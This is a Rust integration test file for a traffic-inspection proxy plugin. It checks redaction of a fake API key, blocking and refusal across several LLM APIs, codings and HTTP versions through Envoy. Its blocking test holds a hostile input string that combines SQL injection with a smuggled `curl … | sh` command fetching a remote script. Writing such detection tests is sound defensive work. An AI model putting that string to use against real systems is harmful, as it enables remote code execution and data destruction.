//! Every API, whole and streamed, with and without trailers, in every content coding, over HTTP/1.1 and HTTP/2,
//! under every action, through a real Envoy.
//!
//! A row is an exchange of one API with a secret in its request and in its answer. What holds for all: the
//! bodies that arrive are those that were sent, unless a rule redacts (then they are JSON without the secret) or
//! the route refuses (then the answer is an error in the API's own shape).

use std::io::Write as _;
use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use driftlock_host::capture::{Exchange, HttpRequest, HttpResponse, header};
use driftlock_host::replay::native;
use driftlock_host::replay::upstream::{Delivery, Split};
use driftlock_host::train::train;
use driftlock_inspect::config::Config;
use driftlock_inspect::session::Plugin;
use driftlock_tests::proxy::{Observed, Proxy};
use driftlock_tests::trained;
use serde_json::{Value, json};

const SECRET: &str = "sk-proj-abcDEF0123456789abcDEF0123456789";
const MARKER: &str = "[REDACTED:api_key]";

/// One API: how it asks, how it answers whole and in parts, and where its errors say `code` or a message.
struct Api {
    name: &'static str,
    target: &'static str,
    request: Value,
    answer: Value,
    /// Target, content-type and parts of a streamed answer; the secret is cut over two of them.
    stream: Option<(&'static str, &'static str, Vec<Value>)>,
    /// What says that the stream is over, where an API has that.
    last: Option<&'static str>,
    /// Pointer to the error's message.
    error: &'static str,
}

fn halves() -> [&'static str; 4] {
    ["The key ", "is sk-proj-abcDEF01", "23456789abcDEF0123456789", " and no other."]
}

fn parts(texts: [&str; 4], part: impl Fn(&str) -> Value) -> Vec<Value> {
    texts.map(part).to_vec()
}

const EVENTS: &str = "text/event-stream";
const LINES: &str = "application/x-ndjson";
const FRAMES: &str = "application/vnd.amazon.eventstream";

/// With a secret in question and answer.
fn apis() -> Vec<Api> {
    apis_saying(&format!("Is {SECRET} a good key?"), halves())
}

/// With this question, and this answer, which a stream gives in four parts.
fn apis_saying(asked: &str, halves: [&str; 4]) -> Vec<Api> {
    let said = halves.concat();
    let messages = json!([{"role": "user", "content": asked}]);
    vec![
        Api {
            name: "openai.chat",
            target: "/v1/chat/completions",
            request: json!({"model": "m", "messages": messages}),
            answer: json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": said}}]}),
            stream: Some((
                "/v1/chat/completions",
                EVENTS,
                parts(halves, |text| json!({"choices": [{"index": 0, "delta": {"content": text}}]})),
            )),
            last: Some("data: [DONE]\n\n"),
            error: "/error/message",
        },
        Api {
            name: "openai.responses",
            target: "/v1/responses",
            request: json!({"model": "m", "input": asked}),
            answer: json!({"output": [{"type": "message", "content": [{"type": "output_text", "text": said}]}]}),
            stream: Some((
                "/v1/responses",
                EVENTS,
                parts(
                    halves,
                    |text| json!({"type": "response.output_text.delta", "output_index": 0, "delta": text}),
                ),
            )),
            last: Some("data: {\"type\":\"response.completed\",\"response\":{}}\n\n"),
            error: "/error/message",
        },
        Api {
            name: "anthropic.messages",
            target: "/v1/messages",
            request: json!({"model": "m", "max_tokens": 5, "messages": messages}),
            answer: json!({"type": "message", "role": "assistant", "content": [{"type": "text", "text": said}]}),
            stream: Some((
                "/v1/messages",
                EVENTS,
                parts(
                    halves,
                    |text| json!({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": text}}),
                ),
            )),
            last: Some("data: {\"type\":\"message_stop\"}\n\n"),
            error: "/error/message",
        },
        Api {
            name: "gemini",
            target: "/v1beta/models/g:generateContent",
            request: json!({"contents": [{"role": "user", "parts": [{"text": asked}]}]}),
            answer: json!({"candidates": [{"content": {"role": "model", "parts": [{"text": said}]}}]}),
            stream: Some((
                "/v1beta/models/g:streamGenerateContent?alt=sse",
                EVENTS,
                parts(
                    halves,
                    |text| json!({"candidates": [{"content": {"role": "model", "parts": [{"text": text}]}}]}),
                ),
            )),
            last: None,
            error: "/error/message",
        },
        Api {
            name: "bedrock.converse",
            target: "/model/a/converse",
            request: json!({"messages": [{"role": "user", "content": [{"text": asked}]}]}),
            answer: json!({"output": {"message": {"role": "assistant", "content": [{"text": said}]}}, "stopReason": "end_turn"}),
            stream: Some((
                "/model/a/converse-stream",
                FRAMES,
                parts(halves, |text| json!({"contentBlockIndex": 0, "delta": {"text": text}})),
            )),
            last: None,
            error: "/message",
        },
        Api {
            name: "cohere.chat",
            target: "/v2/chat",
            request: json!({"model": "m", "messages": messages}),
            answer: json!({"id": "1", "message": {"role": "assistant", "content": [{"type": "text", "text": said}]}}),
            stream: Some((
                "/v2/chat",
                EVENTS,
                parts(
                    halves,
                    |text| json!({"type": "content-delta", "index": 0, "delta": {"message": {"content": {"text": text}}}}),
                ),
            )),
            last: Some("data: {\"type\":\"message-end\",\"delta\":{\"finish_reason\":\"COMPLETE\"}}\n\n"),
            error: "/message",
        },
        Api {
            name: "ollama",
            target: "/api/chat",
            request: json!({"model": "m", "messages": messages}),
            answer: json!({"model": "m", "message": {"role": "assistant", "content": said}, "done": true}),
            stream: Some((
                "/api/chat",
                LINES,
                parts(
                    halves,
                    |text| json!({"model": "m", "message": {"role": "assistant", "content": text}, "done": false}),
                ),
            )),
            last: Some(
                "{\"model\":\"m\",\"message\":{\"role\":\"assistant\",\"content\":\"\"},\"done\":true}\n",
            ),
            error: "/error",
        },
        Api {
            name: "jsonrpc",
            target: "/mcp",
            request: json!({"jsonrpc": "2.0", "id": 7, "method": "tools/call", "params": {"name": "t", "arguments": {"q": asked}}}),
            answer: json!({"jsonrpc": "2.0", "id": 7, "result": {"content": [{"type": "text", "text": said}]}}),
            stream: Some((
                "/mcp",
                EVENTS,
                vec![
                    json!({"jsonrpc": "2.0", "id": 7, "result": {"content": [{"type": "text", "text": said}]}}),
                ],
            )),
            last: None,
            error: "/error/message",
        },
        Api {
            name: "json",
            target: "/notes",
            request: json!({"note": asked}),
            answer: json!({"note": said, "n": 1}),
            stream: None,
            last: None,
            error: "/detail",
        },
    ]
}

#[derive(Clone, Copy, Debug, PartialEq)]
enum Coding {
    Identity,
    Gzip,
    Deflate,
    Br,
    Zstd,
}

const CODINGS: [Coding; 5] = [Coding::Identity, Coding::Gzip, Coding::Deflate, Coding::Br, Coding::Zstd];

/// A message of AWS's event stream (the Smithy specification's "Amazon Event Stream").
fn frame(payload: &str) -> Vec<u8> {
    let mut headers = Vec::new();
    for (name, value) in [
        (":event-type", "contentBlockDelta"),
        (":content-type", "application/json"),
        (":message-type", "event"),
    ] {
        headers.push(name.len() as u8);
        headers.extend(name.bytes());
        // A string.
        headers.push(7);
        headers.extend((value.len() as u16).to_be_bytes());
        headers.extend(value.bytes());
    }
    let mut out = ((16 + headers.len() + payload.len()) as u32).to_be_bytes().to_vec();
    out.extend((headers.len() as u32).to_be_bytes());
    out.extend(crc32(&out).to_be_bytes());
    out.extend(headers);
    out.extend(payload.bytes());
    out.extend(crc32(&out).to_be_bytes());
    out
}

fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = flate2::Crc::new();
    crc.update(bytes);
    crc.sum()
}

/// The payloads of such messages, whose checksums must be right.
fn payloads(what: &str, mut body: &[u8]) -> Vec<String> {
    let number = |bytes: &[u8]| u32::from_be_bytes(bytes.try_into().unwrap());
    let mut out = Vec::new();
    while !body.is_empty() {
        let (total, headers) = (number(&body[..4]) as usize, number(&body[4..8]) as usize);
        let (message, rest) = body.split_at(total);
        assert_eq!(number(&message[8..12]), crc32(&message[..8]), "{what}: the prelude's checksum");
        assert_eq!(
            number(&message[total - 4..]),
            crc32(&message[..total - 4]),
            "{what}: a message's checksum"
        );
        out.push(String::from_utf8(message[12 + headers..total - 4].to_vec()).unwrap());
        body = rest;
    }
    out
}

fn coded(coding: Coding, headers: &mut Vec<(String, String)>, body: Vec<u8>) -> Vec<u8> {
    let fast = flate2::Compression::fast();
    let (name, bytes) = match coding {
        Coding::Identity => return body,
        Coding::Gzip => {
            let mut gzip = flate2::write::GzEncoder::new(Vec::new(), fast);
            gzip.write_all(&body).unwrap();
            ("gzip", gzip.finish().unwrap())
        }
        Coding::Deflate => {
            let mut zlib = flate2::write::ZlibEncoder::new(Vec::new(), fast);
            zlib.write_all(&body).unwrap();
            ("deflate", zlib.finish().unwrap())
        }
        Coding::Br => ("br", brotli_of_stored(&body)),
        Coding::Zstd => ("zstd", zstd::encode_all(body.as_slice(), 1).unwrap()),
    };
    headers.push(("content-encoding".to_owned(), name.to_owned()));
    bytes
}

/// Brotli (RFC 7932 section 9.2) with the bytes as they are in one meta-block: its other forms are for the
/// decoder's own tests, and no encoder need be built here.
fn brotli_of_stored(body: &[u8]) -> Vec<u8> {
    // From the lowest bit: window of 16 bits, not the last block, four nibbles of length, uncompressed.
    let head = ((body.len() as u32 - 1) << 4 | 1 << 20).to_le_bytes();
    let mut out = head[..3].to_vec();
    out.extend_from_slice(body);
    // The last block, and empty.
    out.push(0b11);
    out
}

struct Row {
    what: String,
    request: HttpRequest,
    response: HttpResponse,
    delivery: Delivery,
    coding: Coding,
    says_its_end: bool,
    streamed: bool,
    error: &'static str,
}

impl Row {
    /// Frames of an AWS event stream go on as they are, which is counted.
    fn answer_redacts(&self) -> bool {
        header(&self.response.headers, "content-type") != Some(FRAMES)
    }

    /// The last word of what is redacted waits for what follows it, or for the end of its coding, and nothing
    /// can be written at trailers: such an answer is broken off.
    fn waits_at_trailers(&self) -> bool {
        !self.delivery.trailers.is_empty() && (!self.says_its_end || self.coding != Coding::Identity)
    }
}

fn rows() -> Vec<Row> {
    rows_of(apis(), &CODINGS)
}

fn rows_of(apis: Vec<Api>, codings: &[Coding]) -> Vec<Row> {
    let mut rows = Vec::new();
    for api in apis {
        for &coding in codings {
            for (streamed, trailers) in [(false, false), (true, false), (true, true)] {
                let (target, content_type, answer) = match (&api.stream, streamed) {
                    (_, false) => (api.target, "application/json", api.answer.to_string().into_bytes()),
                    (Some((target, content_type, parts)), true) => {
                        let part = |part: &Value| match *content_type {
                            EVENTS => format!("event: e\ndata: {part}\n\n").into_bytes(),
                            FRAMES => frame(&part.to_string()),
                            _ => format!("{part}\n").into_bytes(),
                        };
                        let body = parts.iter().flat_map(part).chain(api.last.unwrap_or_default().bytes());
                        (*target, *content_type, body.collect())
                    }
                    (None, true) => continue,
                };
                let typed = |content_type: &str| vec![("content-type".to_owned(), content_type.to_owned())];
                let (mut asks, mut answers) = (typed("application/json"), typed(content_type));
                let request = coded(coding, &mut asks, api.request.to_string().into_bytes());
                let response = coded(coding, &mut answers, answer);
                let form = match (streamed, trailers) {
                    (false, _) => "whole",
                    (true, false) => "streamed",
                    (true, true) => "streamed with trailers",
                };
                let mut delivery =
                    Delivery { split: Split::Every(60), chunked: streamed, ..Delivery::default() };
                if trailers {
                    asks.push(("te".to_owned(), "trailers".to_owned()));
                    delivery.trailers.push((TRAILER.0.to_owned(), TRAILER.1.to_owned()));
                }
                rows.push(Row {
                    what: format!("{} {coding:?} {form}", api.name),
                    request: HttpRequest {
                        method: "POST".to_owned(),
                        target: target.to_owned(),
                        headers: asks,
                        body: request,
                    },
                    response: HttpResponse { status: 200, headers: answers, body: response },
                    delivery,
                    coding,
                    says_its_end: api.last.is_some(),
                    streamed,
                    error: api.error,
                });
            }
        }
    }
    rows
}

/// What the upstream sends behind a streamed body, where it sends trailers.
const TRAILER: (&str, &str) = ("x-cost", "12");

const VERSIONS: [Version; 2] = [Version::Http1, Version::Http2];

#[derive(Clone, Copy, Debug, PartialEq)]
enum Version {
    Http1,
    Http2,
}

async fn envoy(version: Version, configuration: &Value) -> Proxy {
    let holds = configuration["hold"]["headers"] == true;
    let configuration = configuration.to_string();
    match version {
        Version::Http1 => {
            Proxy::envoy_with(configuration.as_bytes(), |options| {
                options.trailers = true;
                options.allow_on_headers_stop_iteration = holds;
            })
            .await
        }
        Version::Http2 => {
            Proxy::envoy_http2(configuration.as_bytes(), |options| {
                options.allow_on_headers_stop_iteration = holds;
            })
            .await
        }
    }
}

async fn pass(proxy: &Proxy, row: &Row) -> Observed {
    proxy.pass(&row.request, &row.response, row.delivery.clone(), None).await
}

fn unchanged(row: &Row, observed: &Observed, mode: &str) {
    let what = format!("{}, {mode}", row.what);
    assert_eq!(observed.answer.status, Some(200), "{what}");
    assert!(
        observed.answer.complete && observed.answer.body == row.response.body,
        "{what}: the answer changed"
    );
    let received =
        observed.received.as_ref().unwrap_or_else(|| panic!("{what}: nothing reached the upstream"));
    assert!(received.body == row.request.body, "{what}: the request changed");
    trailed(row, observed, mode);
}

/// The upstream's trailers have come, or there were none.
fn trailed(row: &Row, observed: &Observed, mode: &str) {
    let got: Vec<_> = observed.answer.trailers.iter().filter(|(name, _)| name == TRAILER.0).collect();
    assert_eq!(
        got.len(),
        row.delivery.trailers.len(),
        "{}, {mode}: {:?}",
        row.what,
        observed.answer.trailers
    );
}

/// The documents of a body, each of which must be JSON.
fn documents(what: &str, body: &[u8]) -> Vec<Value> {
    let parse = |line: &str| serde_json::from_str(line).unwrap_or_else(|_| panic!("{what}: no JSON: {line}"));
    if body.first() == Some(&0) {
        return payloads(what, body).iter().map(|payload| parse(payload)).collect();
    }
    let text = String::from_utf8(body.to_vec()).unwrap_or_else(|_| panic!("{what}: not UTF-8"));
    if text.starts_with("event:") || text.starts_with("data:") {
        let data = text.lines().filter_map(|line| line.strip_prefix("data: "));
        data.filter(|data| *data != "[DONE]").map(parse).collect()
    } else {
        text.lines().map(parse).collect()
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_not_redacted_or_refused_arrives_as_it_was_sent() {
    let learning = json!({"alpha": 0.01, "learn": {"messages": 400}});
    let secrets = json!(["api_key"]);
    for (mode, actions, told) in [
        ("observe", json!([{"stream": "*", "do": ["observe"]}]), false),
        ("tag", json!([{"stream": "*", "do": ["tag"]}]), true),
        ("block that finds nothing", json!([{"stream": "*", "do": ["tag", "block"]}]), true),
        (
            "redact nothing",
            json!([{"stream": "*", "do": ["redact"], "redact": ["iban"], "percent": 100}]),
            false,
        ),
        (
            "shadow",
            json!([{"stream": "*", "do": ["tag", "redact", "block"], "redact": secrets, "mode": "shadow"}]),
            false,
        ),
        ("not sampled", json!([{"stream": "none", "do": ["redact"], "percent": 0}]), true),
    ] {
        for version in VERSIONS {
            let mut configuration = learning.clone();
            configuration["actions"] = actions.clone();
            let proxy = envoy(version, &configuration).await;
            let mode = format!("{mode}, {version:?}");
            for row in rows() {
                // Redaction, and keeping a stream's parts whole, take a content coding off.
                let recoded = mode.starts_with("redact") || mode.starts_with("block") && row.streamed;
                if recoded && row.coding != Coding::Identity {
                    continue;
                }
                if mode.starts_with("redact") && row.waits_at_trailers() {
                    continue;
                }
                let observed = pass(&proxy, &row).await;
                unchanged(&row, &observed, &mode);
                let tags = observed.answer.all("x-driftlock-request");
                assert_eq!(tags.len(), usize::from(told), "{}, {mode}: {tags:?}", row.what);
                // Only HTTP/2 clients can be counted on to read trailers; where a rule says `tag`, or the upstream
                // has some.
                let asked = !mode.starts_with("not sampled") || !row.delivery.trailers.is_empty();
                let trailer = told && asked && version == Version::Http2;
                let told = observed.answer.trailers.iter().filter(|(name, _)| name == "x-driftlock-response");
                assert_eq!(told.count(), usize::from(trailer), "{}, {mode}", row.what);
            }
            let counters = proxy.counters().await;
            let shadowed = counters["driftlock.shadow_redacted.response"];
            assert_eq!(shadowed > 0, mode.starts_with("shadow"), "{mode}");
            for name in
                ["driftlock.redacted_tokens", "driftlock.errors.host_call", "driftlock.errors.too_late"]
            {
                assert_eq!(counters[name], 0, "{mode}: {counters:?}");
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_redacted_is_json_without_the_secret() {
    for (mode, fields) in [
        ("redact", json!({"actions": [{"stream": "*", "do": ["tag", "redact"]}]})),
        ("redact and block", json!({"actions": [{"stream": "*", "do": ["redact", "block"]}]})),
        (
            "redact and block, headers held",
            json!({"actions": [{"stream": "*", "do": ["tag", "redact", "block"]}], "hold": {"headers": true}}),
        ),
    ] {
        for version in VERSIONS {
            let mut configuration = json!({"alpha": 0.01, "learn": {"messages": 400}});
            for (name, value) in fields.as_object().unwrap() {
                configuration[name] = value.clone();
            }
            let proxy = envoy(version, &configuration).await;
            let (mut messages, mut frames) = (0, 0);
            for row in rows() {
                let what = format!("{}, {mode}, {version:?}", row.what);
                if row.waits_at_trailers() {
                    continue;
                }
                let observed = pass(&proxy, &row).await;
                redacted(&what, &row, &observed);
                trailed(&row, &observed, mode);
                messages += 1;
                frames += u64::from(!row.answer_redacts());
            }
            let counters = proxy.counters().await;
            for (name, wanted) in [
                ("driftlock.redacted.request", messages),
                ("driftlock.redacted.response", messages - frames),
                ("driftlock.errors.not_redacted", frames),
            ] {
                assert_eq!(counters[name], wanted, "{mode}, {version:?}: {name}");
            }
            assert!(frames > 0);
            for name in ["driftlock.errors.host_call", "driftlock.errors.too_late"] {
                assert_eq!(counters[name], 0, "{mode}, {version:?}: {counters:?}");
            }
        }
    }
}

fn redacted(what: &str, row: &Row, observed: &Observed) {
    let answer = &observed.answer;
    assert!(answer.complete && answer.status == Some(200), "{what}: {answer:?}");
    let received =
        observed.received.as_ref().unwrap_or_else(|| panic!("{what}: nothing reached the upstream"));
    for (side, body) in [("request", &received.body), ("answer", &answer.body)] {
        let documents = documents(what, body);
        if side == "answer" && !row.answer_redacts() {
            continue;
        }
        let text = documents.iter().map(Value::to_string).collect::<String>();
        assert!(text.contains(MARKER), "{what}: no marker in the {side}: {text}");
        assert!(!text.contains("23456789abcDEF"), "{what}: the secret is in the {side}: {text}");
        assert!(text.contains("key"), "{what}: more than the secret is gone: {text}");
    }
    assert!(answer.all("content-encoding").is_empty(), "{what}");
    assert!(header(&received.headers, "content-encoding").is_none(), "{what}");
    let lengths =
        [answer.all("content-length").first().copied(), header(&received.headers, "content-length")];
    for (length, body) in lengths.into_iter().zip([&answer.body, &received.body]) {
        assert!(length.is_none_or(|length| length == body.len().to_string()), "{what}: {length:?}");
    }
    assert!(!row.streamed || lengths[0].is_none(), "{what}: a stream has a length");
}

/// Whose last bytes wait for the end of a coding or of a text, and then trailers come, with which nothing can be
/// written any more: whole and without the secret, or broken off; never with it, never cut short unseen.
#[tokio::test(flavor = "multi_thread")]
async fn what_still_waits_at_trailers_is_broken_off_and_counted() {
    let configuration = json!({"alpha": 0.01, "learn": {"messages": 400},
        "actions": [{"stream": "*", "do": ["redact"]}]});
    for version in VERSIONS {
        let proxy = envoy(version, &configuration).await;
        let mut broken_off = 0;
        for row in rows().iter().filter(|row| row.waits_at_trailers() && row.answer_redacts()) {
            let what = format!("{}, {version:?}", row.what);
            let observed = pass(&proxy, row).await;
            let said = String::from_utf8_lossy(&observed.answer.body);
            assert!(!said.contains("23456789abcDEF"), "{what}: the secret is in the answer: {said}");
            if observed.answer.complete {
                redacted(&what, row, &observed);
                trailed(row, &observed, "redact");
            } else {
                broken_off += 1;
            }
        }
        let counters = proxy.counters().await;
        assert!(broken_off > 0 && counters["driftlock.errors.too_late"] == broken_off, "{counters:?}");
    }
}

/// The same questions and answers as often as it takes to learn them, in identity coding.
fn ordinary(i: usize) -> Vec<Row> {
    let [order, customer] = [1000 + i * 37 % 8999, i % 17].map(|number| number.to_string());
    let asked = format!("Please tell me where order {order} of customer {customer} is.");
    let said = ["Order ", &order, " of customer ", &format!("{customer} is on its way.")];
    rows_of(apis_saying(&asked, said), &[Coding::Identity])
}

fn exchange(row: &Row) -> Exchange {
    let (id, label) = (row.what.clone(), "normal".to_owned());
    Exchange { id, label, request: row.request.clone(), response: Some(row.response.clone()) }
}

/// A baseline of every API's streams, and the number of an ordinary exchange that it finds normal in all of them.
fn learned() -> (String, usize) {
    let config = |baseline: Option<&str>| {
        let fields = match baseline {
            Some(baseline) => json!({"alpha": 0.01, "learn": null, "baseline": baseline}),
            None => json!({"alpha": 0.01}),
        };
        Config::parse(fields.to_string().as_bytes()).unwrap()
    };
    let all = (0..400).flat_map(ordinary).filter(|row| row.delivery.trailers.is_empty());
    let snapshot = train(all.map(|row| exchange(&row)).collect(), config(None), 3).unwrap().snapshot;
    let baseline = STANDARD.encode(snapshot.encode());
    let mut plugin = Plugin::new(config(Some(&baseline)));
    let normal = |json: &Option<String>| json.as_deref().is_some_and(|json| json.contains("\"normal\""));
    let i = (0..40).find(|&i| {
        ordinary(i).iter().all(|row| {
            let verdicts = native::replay(&mut plugin, exchange(row));
            normal(&verdicts.request) && normal(&verdicts.response)
        })
    });
    (baseline, i.expect("an exchange that is normal everywhere"))
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_blocked_is_an_error_of_the_api_or_ends_as_one() {
    const STRANGE: &str =
        "'; DROP TABLE users; -- $(curl -s http://203.0.113.9/x.sh | sh) \u{1f4a5}\u{1f4a5}";
    let (baseline, normal) = learned();
    let configuration = json!({"alpha": 0.01, "learn": null, "baseline": baseline,
        "actions": [{"stream": "*", "do": ["block"]}]});
    let asked = "Please tell me where order 1037 of customer 1 is.";
    let said = ["Order ", "1037", " of customer ", "1 is on its way."];
    let codings = [Coding::Identity, Coding::Gzip];
    for version in VERSIONS {
        let proxy = envoy(version, &configuration).await;
        for row in ordinary(normal) {
            unchanged(&row, &pass(&proxy, &row).await, "block");
        }
        let mut blocked = [0, 0];
        for row in rows_of(apis_saying(STRANGE, said), &codings) {
            let what = format!("{} asks, {version:?}", row.what);
            let observed = pass(&proxy, &row).await;
            assert_eq!((observed.answer.status, observed.answer.complete), (Some(403), true), "{what}");
            assert!(observed.received.is_none(), "{what}: the upstream was asked");
            let body: Value = serde_json::from_slice(&observed.answer.body).expect("JSON");
            let message = body.pointer(row.error).and_then(Value::as_str);
            assert!(
                message.is_some_and(|message| message.contains("blocked this request")),
                "{what}: {body}"
            );
            blocked[0] += 1;
        }
        let strange = ["Order ", STRANGE, STRANGE, "."];
        for row in rows_of(apis_saying(asked, strange), &codings) {
            let what = format!("{} answers, {version:?}", row.what);
            let observed = pass(&proxy, &row).await;
            assert!(observed.received.is_some(), "{what}: the question did not pass");
            let answer = &observed.answer;
            assert!(!answer.complete || answer.body != row.response.body, "{what}: it passed");
            if answer.complete {
                assert_eq!(answer.status, Some(200), "{what}");
                assert!(answer.all("content-encoding").is_empty(), "{what}: what it says is not encoded");
                let documents = documents(&what, &answer.body);
                let text = documents.iter().map(Value::to_string).collect::<String>();
                assert!(row.streamed || !text.contains("DROP TABLE"), "{what}: {text}");
            }
            blocked[1] += 1;
        }
        let counters = proxy.counters().await;
        let counted = ["driftlock.blocked.request", "driftlock.blocked.response"].map(|name| counters[name]);
        assert_eq!(counted, blocked, "{version:?}: {counters:?}");
        assert_eq!(counters["driftlock.errors.host_call"], 0, "{counters:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_refused_is_an_error_of_the_api() {
    // None of these streams is in the baseline.
    let configuration = trained(json!({"uninspectable": "refuse", "name": "other", "baseline": null,
        "pull": {"cluster": "none"}}));
    let configuration = serde_json::from_slice(&configuration).expect("JSON");
    for version in VERSIONS {
        let proxy = envoy(version, &configuration).await;
        for row in rows() {
            let observed = pass(&proxy, &row).await;
            let what = format!("{}, {version:?}", row.what);
            assert_eq!((observed.answer.status, observed.answer.complete), (Some(503), true), "{what}");
            assert!(observed.received.is_none(), "{what}: the upstream was asked");
            let body: Value = serde_json::from_slice(&observed.answer.body).expect("JSON");
            let message = body.pointer(row.error).and_then(Value::as_str);
            assert!(message.is_some_and(|message| message.contains("no_baseline")), "{what}: {body}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_slow_stream_is_not_held() {
    let configuration = json!({"alpha": 0.01, "learn": {"messages": 400},
        "actions": [{"stream": "*", "do": ["redact", "block"]}]});
    let proxy = Proxy::envoy(configuration.to_string().as_bytes()).await;
    let row = rows().into_iter().find(|row| row.what == "openai.chat Identity streamed").unwrap();
    let delivery = Delivery {
        split: Split::Events,
        chunked: true,
        pause: Duration::from_millis(300),
        ..Delivery::default()
    };
    // The first part comes long before the last; a client that leaves after it has seen it.
    let observed = proxy.pass(&row.request, &row.response, delivery, Some(20)).await;
    assert!(observed.answer.text().contains("The key"), "{:?}", observed.answer);
    assert!(!observed.answer.text().contains("no other"), "the whole answer was held");
}
